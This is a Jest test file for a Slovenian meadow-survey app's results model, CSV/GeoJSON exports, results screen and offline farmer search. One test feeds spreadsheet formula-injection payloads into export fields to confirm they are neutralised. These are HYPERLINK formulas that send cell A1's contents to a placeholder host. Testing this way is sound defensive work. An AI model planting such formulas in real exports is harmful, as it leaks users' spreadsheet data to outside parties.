/** Results (model, exports, screen states, filters) and the farmers panel. */
import { afterEach, describe, expect, it, jest } from '@jest/globals';
import { cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { buildResults, historyText, resultsCsv, resultsGeoJson } from '../../../src/client/features/results/results-model';
import { PathHistory, ResultsScreen, chartLabelWidth, seasonAverages } from '../../../src/client/features/results/results-screen';
import { FarmersPanel, matchesFarmer } from '../../../src/client/features/farmers/farmers-panel';
import { FORM_KINDS } from '../../../src/common/scheme/form-kinds';
import { sl, slPhone, slReview, slReviewQueue, slScreens } from '../../../src/common/i18n/sl';
import { formatDateTime } from '../../../src/common/format';
import { config, renderWithStore, row, season } from './fixtures';
import { openOfflineDb, refreshRows } from '../../../src/client/lib/db';
import { uniqueDbName } from '../data-layer/helpers';
import { FORMULA_STARTS, looksLikeFormula, readCsv } from '../../common/helpers/read-csv';

afterEach(cleanup);

function results() {
  const s = season();
  const history = {
    durations: s.durations,
    durationPaths: s.allDurationPaths,
    forms: [s.formDone, s.formOld],
    indicators: [...s.indicators, ...s.oldIndicators],
  };
  return { s, rows: buildResults(config, s, history) };
}

describe('results model', () => {
  it('a row per form with last season beside it and the explained score', () => {
    const { s, rows } = results();
    expect(rows.map((r) => [r.pathName, r.seasonName, r.score])).toEqual([
      ['Pot 1', '2026', 72],
      ['Pot 1', '2025', 40],
    ]);
    expect(rows[0]!.previous).toEqual({ score: 40, seasonName: '2025' });
    expect(rows[0]!.farmerId).toBe(s.farmer.id);
    // Explanation from the indicators with the scheme's rule: kadulja raised it, zlata rozga lowered it.
    expect(rows[0]!.explanation!.explanation.map((e) => [e.key, e.points])).toEqual([
      ['salvia-pratensis', 7],
      ['solidago', -20],
    ]);
    expect(seasonAverages(rows)).toEqual([
      { name: '2025', average: 40, count: 1 },
      { name: '2026', average: 72, count: 1 },
    ]);
  });

  it('every form is a result: a second form of a kind on a path in a season is its own row and counts', () => {
    const s = season();
    const second = {
      ...s.formDone,
      id: s.formDone.id + 100_000,
      properties: { ...s.formDone.properties, [String(config.tables.forms.columns.score)]: 50 },
      updatedAt: '2026-06-20T10:00:00.000Z',
    };
    const history = {
      durations: s.durations,
      durationPaths: s.allDurationPaths,
      forms: [s.formDone, second, s.formOld],
      indicators: [...s.indicators, ...s.oldIndicators],
    };
    const rows = buildResults(config, s, history);
    expect(rows.map((r) => [r.formId, r.seasonName, r.score])).toEqual([
      [s.formDone.id, '2026', 72],
      [second.id, '2026', 50],
      [s.formOld.id, '2025', 40],
    ]);
    // Both compare with last season's form.
    expect(rows.slice(0, 2).map((r) => r.previous)).toEqual([
      { score: 40, seasonName: '2025' },
      { score: 40, seasonName: '2025' },
    ]);
    expect(seasonAverages(rows).find((a) => a.name === '2026')).toEqual({ name: '2026', average: 61, count: 2 });
  });

  it('archived forms are left out', () => {
    const s = season();
    const rows = buildResults(config, s, {
      durations: s.durations,
      durationPaths: s.allDurationPaths,
      forms: [{ ...s.formDone, archived: true }],
      indicators: [],
    });
    expect(rows).toEqual([]);
  });

  it('CSV: Slovenian header, semicolons, the class word, quoting, history column', () => {
    const { rows } = results();
    const csv = resultsCsv(rows, () => 'Ana "Ančka" Kovač', new Map([[rows[0]!.formId, 'a; b']]));
    const lines = csv.replace('\ufeff', '').trim().split('\r\n');
    const h = slScreens.results.csv;
    const rv = slReviewQueue.csv;
    expect(lines[0]).toBe(
      [h.farmer, h.area, h.path, h.season, h.form, h.kind, h.score, h.class, h.rule, h.completed, h.updated, rv.state, rv.by, rv.at, rv.reason, h.history].join(
        ';',
      ),
    );
    expect(lines[1]).toContain('"Ana ""Ančka"" Kovač";Travnik pod gozdom;Pot 1;2026;');
    expect(lines[1]).toContain(`;72;${sl.scheme.scoreClass.good};${FORM_KINDS.travnik.scoring.version};Da;`);
    expect(lines[1]!.endsWith(';"a; b"')).toBe(true);
  });

  it.each(FORMULA_STARTS)('CSV: a farmer, meadow or path name, a review reason or a history starting with %j is text; the score stays a number', (start) => {
    const { rows } = results();
    const text = (what: string) => `${start}HYPERLINK("http://example.invalid/?x="&A1;"${what}")`;
    const named = rows.map((r) => ({ ...r, areaName: text('travnik'), pathName: text('pot'), reviewReason: text('razlog'), score: -4 }));
    const lines = readCsv(resultsCsv(named, () => text('kmet'), new Map([[rows[0]!.formId, text('zgodovina')]])));
    expect(lines.flat().filter(looksLikeFormula)).toEqual([]);
    const first = lines[1]!;
    for (const what of ['kmet', 'travnik', 'pot', 'razlog', 'zgodovina']) expect(first).toContain(`'${text(what)}`);
    expect(first[6]).toBe('-4');
    // The updated time is written as it is kept, an ISO date.
    expect(first[10]).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });

  it('CSV and GeoJSON carry the review: the state as a word, who decided, when and why', () => {
    const s = season();
    const F = config.tables.forms.columns;
    const decided = {
      ...s.formDone,
      properties: {
        ...s.formDone.properties,
        [String(F.review_state)]: 'returned',
        [String(F.reviewed_by)]: 'svetovalec@example.si',
        [String(F.reviewed_at)]: '2026-06-05T07:30:00.000Z',
        [String(F.review_reason)]: 'Manjka fotografija; dodajte jo.',
      },
    };
    const rows = buildResults(config, s, { durations: s.durations, durationPaths: s.allDurationPaths, forms: [decided, s.formOld], indicators: [] });
    expect(rows.map((r) => r.reviewState)).toEqual(['returned', 'draft']);
    const lines = resultsCsv(rows, () => 'Ana')
      .replace('\ufeff', '')
      .trim()
      .split('\r\n');
    expect(lines[1]!.endsWith(`;${slReview.state.returned};svetovalec@example.si;5. 6. 2026, 09:30;"Manjka fotografija; dodajte jo."`)).toBe(true);
    // A form never submitted: a draft, no one decided.
    expect(lines[2]!.endsWith(`;${slReview.state.draft};;;`)).toBe(true);
    const fc = JSON.parse(resultsGeoJson(rows, () => 'Ana'));
    expect(fc.features[0].properties).toMatchObject({
      review_state: slReview.state.returned,
      reviewed_by: 'svetovalec@example.si',
      reviewed_at: '5. 6. 2026, 09:30',
      review_reason: 'Manjka fotografija; dodajte jo.',
    });
  });

  it('history text: oldest first, who and when the Slovenian way, a row under the form and every value by its name', () => {
    const text = historyText([
      {
        id: 2,
        tableId: 6,
        table: 'indicators',
        recordId: 11,
        record: 'Kukavica',
        action: 'update',
        changedBy: 'urednik@example.si',
        changedAt: '2026-06-02T10:00:00Z',
        changes: [{ column: 'value', old: false, new: true, oldText: 'Ne', newText: 'Da' }],
      },
      {
        id: 1,
        tableId: 5,
        table: 'forms',
        recordId: 9,
        record: 'Popis · Pot 1 · 2026',
        action: 'insert',
        changedBy: 'kmet1@example.si',
        changedAt: '2026-06-01T10:00:00Z',
        changes: [{ column: 'parent', old: null, new: 10000237, newText: 'Pot 1 · 2026' }],
      },
    ]);
    expect(text).toBe(
      `${formatDateTime('2026-06-01T10:00:00Z')} kmet1@example.si ustvarjeno: nadrejeni zapis: — → Pot 1 · 2026 | ${formatDateTime('2026-06-02T10:00:00Z')} urednik@example.si spremenjeno · Kukavica: vrednost: Ne → Da`,
    );
    expect(text).not.toMatch(/10000237/);
  });

  it('GeoJSON: the path lines with their results', () => {
    const { rows } = results();
    const fc = JSON.parse(resultsGeoJson(rows, () => 'Ana'));
    expect(fc.type).toBe('FeatureCollection');
    expect(fc.features[0].geometry.type).toBe('LineString');
    expect(fc.features[0].properties).toMatchObject({ farmer: 'Ana', path: 'Pot 1', season: '2026', score: 72, class: 'good' });
  });
});

describe('ResultsScreen', () => {
  it('states: loading, error, empty, offline', () => {
    render(<ResultsScreen rows={null} status="loading" fromDevice={false} canExport={false} online />);
    expect(screen.getByText(sl.common.loading)).toBeTruthy();
    cleanup();
    render(<ResultsScreen rows={null} status="failed" fromDevice={false} canExport={false} online />);
    expect(screen.getByRole('alert').textContent).toBe(slScreens.states.error);
    cleanup();
    render(<ResultsScreen rows={[]} status="ready" fromDevice canExport={false} online={false} />);
    expect(screen.getByText(sl.screens.results.empty)).toBeTruthy();
    expect(screen.getByTestId('offline-note')).toBeTruthy();
  });

  it('shows the newest season with last season beside it and filters by season; a score comes next to its path, the chart after the rows', () => {
    const { rows } = results();
    render(<ResultsScreen rows={rows} status="ready" fromDevice={false} canExport={false} online />);
    const now = screen.getByTestId(`result-${rows[0]!.formId}`);
    const cells = within(now)
      .getAllByRole('cell')
      .map((c) => c.textContent);
    expect(cells.slice(0, 3)).toEqual(['72dobro', '40srednje', '▲ +32']);
    expect(cells.slice(-3)).toEqual(['Travnik pod gozdom', '2026', FORM_KINDS.travnik.title]);
    expect(now.compareDocumentPosition(screen.getByTestId('season-chart')) & Node.DOCUMENT_POSITION_FOLLOWING).toBeTruthy();
    expect(screen.queryByTestId(`result-${rows[1]!.formId}`)).toBeNull();
    expect(screen.getByTestId('season-chart').querySelector('svg')!.getAttribute('aria-label')).toBe('2025: 40 (srednje), 2026: 72 (dobro)');
    fireEvent.change(screen.getByLabelText(slScreens.results.season), { target: { value: 'all' } });
    expect(screen.getByTestId(`result-${rows[1]!.formId}`)).toBeTruthy();
    expect(screen.queryByRole('button', { name: slScreens.results.export })).toBeNull();
  });

  it("the chart's season names have room under their bars (never overlapping on a phone)", () => {
    const { rows } = results();
    const named = rows.map((r) => ({
      ...r,
      seasonName: `Sezona ${r.seasonName}`,
      previous: r.previous ? { ...r.previous, seasonName: `Sezona ${r.previous.seasonName}` } : r.previous,
    }));
    render(<ResultsScreen rows={named} status="ready" fromDevice={false} canExport={false} online />);
    const labels = [...screen.getByTestId('season-chart').querySelectorAll('.season-chart__label:not(.season-chart__label--small)')];
    expect(labels.map((l) => l.textContent)).toEqual(['Sezona 2025', 'Sezona 2026']);
    const [first, second] = labels.map((l) => Number(l.getAttribute('x')));
    // Centred labels: neighbours are at least one label's width apart.
    expect(second! - first!).toBeGreaterThanOrEqual(chartLabelWidth('Sezona 2025'));
  });

  it('editors export the shown rows', async () => {
    const { rows } = results();
    const onExportCsv = jest.fn(async (_rows: unknown) => undefined);
    const onExportGeoJson = jest.fn();
    render(<ResultsScreen rows={rows} status="ready" fromDevice={false} canExport online onExportCsv={onExportCsv} onExportGeoJson={onExportGeoJson} />);
    fireEvent.click(screen.getByRole('button', { name: slScreens.results.export }));
    await waitFor(() => expect(onExportCsv).toHaveBeenCalledWith([rows[0]]));
    fireEvent.click(screen.getByRole('button', { name: slScreens.results.exportGeoJson }));
    expect(onExportGeoJson).toHaveBeenCalledWith([rows[0]]);
  });

  it("a path's earlier seasons", () => {
    const { s, rows } = results();
    render(<PathHistory rows={rows} currentDurationId={s.duration.id} status="ready" />);
    const list = screen.getByTestId('path-history');
    expect(list.textContent).toContain('2025');
    expect(list.textContent).toContain('40srednje');
    expect(list.textContent).not.toContain('72');
    cleanup();
    render(<PathHistory rows={[]} currentDurationId={s.duration.id} status="ready" />);
    expect(screen.getByText(slScreens.paths.noPrevious)).toBeTruthy();
  });

  it('offline, a path with no earlier seasons on the device does not claim there are none', () => {
    const { s } = results();
    render(<PathHistory rows={[]} currentDurationId={s.duration.id} status="ready" fromDevice />);
    expect(screen.queryByText(slScreens.paths.noPrevious)).toBeNull();
    expect(screen.getByText(slPhone.history.onlineOnly)).toBeTruthy();
  });
});

describe('farmers panel', () => {
  const name = String(config.tables.farmers.columns.name);
  const email = String(config.tables.farmers.columns.email);
  const farmers = [
    row(config.tables.farmers.id, { [name]: 'Ana Kovač', [email]: 'kmet1@example.si' }),
    row(config.tables.farmers.id, { [name]: 'Štefan Horvat', [email]: 'kmet2@example.si' }),
  ];

  it('local search ignores case and accents', () => {
    expect(matchesFarmer(farmers[1]!, config, 'stefan hor')).toBe(true);
    expect(matchesFarmer(farmers[0]!, config, 'kovac')).toBe(true);
    expect(matchesFarmer(farmers[0]!, config, 'horvat')).toBe(false);
  });

  /** The farmers stored on a device under the config's search profile (as a season load stores them). */
  async function deviceWithFarmers() {
    const db = openOfflineDb({ name: uniqueDbName('farmers-panel'), searchProfileId: config.searchProfileId });
    await refreshRows(db, farmers, { projectId: config.projectId, tableId: config.tables.farmers.id });
    return db;
  }

  /** The text search's answer in the store for `query`, once there is one. */
  const answerFor = (store: ReturnType<typeof renderWithStore>['store'], query: string) =>
    Object.values(store.getState().api.queries).find(
      (entry) =>
        entry?.endpointName === 'textSearchRecords' && (entry.originalArgs as { query?: string } | undefined)?.query === query && entry.status === 'fulfilled',
    )?.data as { records: Array<{ id: number }>; totalCount: number } | undefined;

  it('offline it searches the farmers stored on the device (the text search call, answered by the device), shows progress, and chooses one', async () => {
    const onChoose = jest.fn();
    const fetchFn = jest.fn<typeof fetch>();
    const progress = new Map([[farmers[0]!.id, { done: 1, total: 3 }]]);
    const { store } = renderWithStore(
      <FarmersPanel config={config} farmers={farmers} selectedId={null} onChoose={onChoose} online={false} progress={progress} />,
      { db: await deviceWithFarmers(), fetchFn },
    );
    expect(screen.getByText(slScreens.farmers.searchOffline)).toBeTruthy();
    expect(screen.getByTestId(`farmer-${farmers[0]!.id}`).textContent).toContain(slScreens.farmers.progressValue(1, 3));
    fireEvent.input(screen.getByLabelText(slScreens.farmers.search), { target: { value: 'štef' } });
    await waitFor(() => expect(answerFor(store, 'štef')).toEqual({ records: [expect.objectContaining({ id: farmers[1]!.id })], totalCount: 1 }));
    expect(screen.queryByTestId(`farmer-${farmers[0]!.id}`)).toBeNull();
    fireEvent.click(within(screen.getByTestId(`farmer-${farmers[1]!.id}`)).getByRole('button', { name: new RegExp(`^${slScreens.farmers.choose} `) }));
    expect(onChoose).toHaveBeenCalledWith(farmers[1]!.id);
    fireEvent.input(screen.getByLabelText(slScreens.farmers.search), { target: { value: 'nihče' } });
    await waitFor(() => expect(answerFor(store, 'nihče')).toEqual({ records: [], totalCount: 0 }));
    expect(screen.getByText(slScreens.farmers.none)).toBeTruthy();
    // Known to be offline: the server was not asked.
    expect(fetchFn).not.toHaveBeenCalled();
  });

  it('online, when the server cannot be reached, the device answers the search', async () => {
    const fetchFn = jest.fn<typeof fetch>(async () => {
      throw new TypeError('Failed to fetch');
    });
    const { store } = renderWithStore(<FarmersPanel config={config} farmers={farmers} selectedId={null} onChoose={jest.fn()} online progress={null} />, {
      db: await deviceWithFarmers(),
      fetchFn,
    });
    fireEvent.input(screen.getByLabelText(slScreens.farmers.search), { target: { value: 'kmet1' } });
    await waitFor(() => expect(answerFor(store, 'kmet1')).toEqual({ records: [expect.objectContaining({ id: farmers[0]!.id })], totalCount: 1 }));
    expect(fetchFn.mock.calls.map(([url]) => String(url))).toEqual([
      `http://server.test/api/Records/${config.projectId}/search/${config.searchProfileId}/1000/1/kmet1?tableIds=${config.tables.farmers.id}`,
    ]);
    expect(screen.getByTestId(`farmer-${farmers[0]!.id}`)).toBeTruthy();
    expect(screen.queryByTestId(`farmer-${farmers[1]!.id}`)).toBeNull();
  });
});
